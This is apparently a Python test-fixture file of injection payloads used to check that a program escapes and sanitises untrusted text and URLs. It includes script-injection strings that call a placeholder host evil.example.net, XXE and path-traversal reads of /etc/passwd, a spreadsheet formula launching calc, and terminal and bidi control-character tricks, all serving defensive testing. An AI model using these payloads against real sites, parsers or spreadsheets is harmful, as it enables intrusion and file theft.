"""Sixty-one texts that try to be more than text, and addresses that try to be more than addresses.

Each text holds a word of its own (`mark`), by which it is found again in every output: it must survive readable.
"""

from __future__ import annotations

from config.characters import in_one_line

EVIL = "evil.example.net"  # nothing may ever ask this host for anything
_ACT = f"window.hacked=1;alert(1);fetch('https://{EVIL}/')"

_HTML = [
    f"<script>{_ACT}</script> @",
    f'"><script>{_ACT}</script> @',
    f"'><img src=x onerror=\"{_ACT}\"> @",
    f'@" onmouseover="{_ACT}" x="',
    f"@' onfocus='{_ACT}' autofocus='",
    f"@` onclick=`{_ACT}`",
    f"</title><script>{_ACT}</script> @",
    f"</textarea></style></noscript><script>{_ACT}</script> @",
    f"@ --><script>{_ACT}</script><!--",
    f"@ <svg/onload={_ACT.replace(' ', '')}>",
    f"<svg><script>{_ACT}</script></svg> @",
    f"@ <math><mtext><table><mglyph><style><img src=x onerror=\"{_ACT}\">",
    f'<iframe srcdoc="&lt;script&gt;{_ACT}&lt;/script&gt;"></iframe> @',
    f'<iframe src="https://{EVIL}/"></iframe> @',
    f'<img src="https://{EVIL}/pixel.png"> @',
    f'<link rel=stylesheet href="https://{EVIL}/x.css"> @',
    f'<style>@import "https://{EVIL}/x.css";body{{display:none}}</style> @',
    f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/"> @',
    f'<base href="https://{EVIL}/"> @',
    f'<form action="https://{EVIL}/"><input name=a autofocus onfocus="{_ACT}"><button>go</button></form> @',
    f'<a href="javascript:{_ACT}">@</a>',
    f'<a href="java\tscript:{_ACT}">@</a>',
    f'<a href="&#106;avascript&colon;{_ACT}">@</a>',
    f'<a href="data:text/html,<script>{_ACT}</script>">@</a>',
    f'<a href="vbscript:{_ACT}" target=_blank>@</a>',
    '<a href="file:///etc/passwd">@</a>',
    f"&lt;script&gt;{_ACT}&lt;/script&gt; @",
    f"&amp;lt;img src=x onerror={_ACT}&amp;gt; @",
    f"&#60;script&#62;{_ACT}&#60;/script&#62; @",
    "</div></main></body></html> @",
    "</li></ul></dd></dl><h1>@</h1>",
    "<table><tr><td>@</table></table></div>",
    "<p><b><i><u>@ never closed <a href=",
    '<object data="x.swf"><embed src="x.swf"></object><template><b>@</b></template> @',
]  # fmt: skip
_DATA = [
    f"</script><script>{_ACT}</script> @",
    '@","@type":"Offer","url":"x',
    "@\\u003c/script\\u003e\\",
    "@ {{ 7*7 }} {% raw %} ${7*7} #{7*7} %(name)s {0} %s",
]
_XML = [
    "@ ]]> <![CDATA[ x ]]>",
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]> @ &a;',
    "@ &a; &nbsp; &#0; &#x1F; &#xFFFE;",
    "@ <?xml version='1.0'?><?php x ?>",
    "</title></item></channel></rss> @",
]
_ICS = [
    "@\r\nATTENDEE;CN=x:mailto:x@example.org",
    "@\r\nEND:VEVENT\r\nEND:VCALENDAR",
    "@\nBEGIN:VALARM\nACTION:PROCEDURE\nATTACH:file:///bin/sh\nEND:VALARM",
    '@;X=1:y,"z"\\n\\N\\;^n^\'',
    "@\\",
]
_UNSEEN = [
    "@ \x00nul \x07bell \x08back \x7fdel",
    "@ \x1b[31mred\x1b[2J\x1b]0;owned\x07 \x9b1m",
    "@ \u202eevil\u202c \u2066isolate\u2069 \u200fmark",
    "@ a\u2028b\u2029c\u0085d\x0be\x0cf",
    "@ half \ud83d pair \udc00 of",
    "@ zero\u200bwidth \ufeffbom \u00adsoft \ufffe \uffff",
    "@ tags \U000e0041\U000e0042 private \ue000 \U000f0000",
    "@ \r[00:00:00] forged log line\r\n2026-11-22 ERROR forged",
]
_FILES = ["=cmd|' /C calc'!A0 @", "../../../../etc/passwd @", "..\\..\\@ CON NUL.txt ．．／ @"]
_LONG = ["@ " + "long " * 5000]

_HEAPS = ["@ Z" + "\u0301\u0324\u20dd" * 100 + "algo \u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49"]

_TEXTS = [*_HTML, *_DATA, *_XML, *_ICS, *_UNSEEN, *_FILES, *_LONG, *_HEAPS]


def mark(number: int) -> str:
    return f"Kern{number:02}wort"


PAYLOADS: dict[int, str] = {number: text.replace("@", mark(number)) for number, text in enumerate(_TEXTS, 1)}

# Addresses that are followed, whatever else they hold.
WEB_ADDRESSES = [
    f'https://example.org/"><script>{_ACT}</script>',
    "https://example.org/x' onclick='alert(1)",
    "https://example.org/\r\nATTENDEE:mailto:x@example.org",
    "https://example.org/?a=1;b=2,3&c=\\n\"^'",
    "https://example.org/\u202egro.live//:sptth",
    "https://ex\x00ample.org/\x1b[31m",
    "https://example.org/]]>&amp;<!--",
    "HTTPS://EXAMPLE.ORG/%0d%0aSet-Cookie:x=1",
    "https://münchen.example.org/ä/\ud83d",
]
# Addresses that are none.
OTHER_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://example.org/",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " \x01javascript:alert(1)",
    "javascript\u200b:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://example.org/x",
    "ftp://example.org/x",
    "https:///",
    "https://[example.org/",
    "http:\\\\example.org\\x",
]


def as_line(text: str, limit: int) -> str:
    """What a person can have meant by it, as a line of the store."""
    return in_one_line(text)[:limit].strip()


def is_clean(text: str) -> bool:
    """Nothing but what is seen, blanks, and the joiners that scripts need."""
    return all(each.isprintable() or each in "\n\t\u200c\u200d" or each.isspace() for each in text) and not set(
        text
    ) & set("\r\x0b\x0c\x85\u2028\u2029")
